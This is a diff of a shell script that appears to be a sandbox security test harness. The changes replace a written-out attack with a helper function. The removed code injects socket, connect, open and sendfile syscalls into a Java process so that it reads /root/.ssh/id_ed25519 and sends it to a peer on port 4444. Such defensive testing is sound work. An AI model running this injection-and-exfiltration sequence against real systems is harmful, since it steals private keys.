@@ -63,12 +63,7 @@ container_fields() {
 }
 
 peers() {
-	in_network ip addr add 169.254.169.254/32 dev peer0
-	world_start
-}
-
-world_start() {
-	peer_start world python3 -c "$(cat "$here/services/peer.py")" "$peer_address" 169.254.169.254
+	world_begin
 }
 
 ready() {
@@ -402,19 +397,7 @@ attack_code_shell() {
 
 # By code in the process: a secret is read, and sent.
 attack_code_connect() {
-	local fd secret
-	harm connect "$peer_address:4444"
-	harm read '/root/.ssh/id_ed25519'
-	thief_begin
-	fd=$(inject_call java Desk 41 2 1 0)
-	# AF_INET, port 4444, 10.88.0.1
-	inject_call java Desk 42 "${fd#* }" words:0x0100580a5c110002,0 16
-	secret=$(inject_call java Desk 257 -100 '"/root/.ssh/id_ed25519"' 0 0)
-	# sendfile
-	inject_call java Desk 40 "${fd#* }" "${secret#* }" 0 4096
-	inject_call java Desk 3 "${fd#* }"
-	inject_call java Desk 3 "${secret#* }"
-	thief_got 'PRIVATE KEY'
+	inject_theft java Desk /root/.ssh/id_ed25519 'PRIVATE KEY'
 }
 
 # ---- attacks that only do what the service does ----
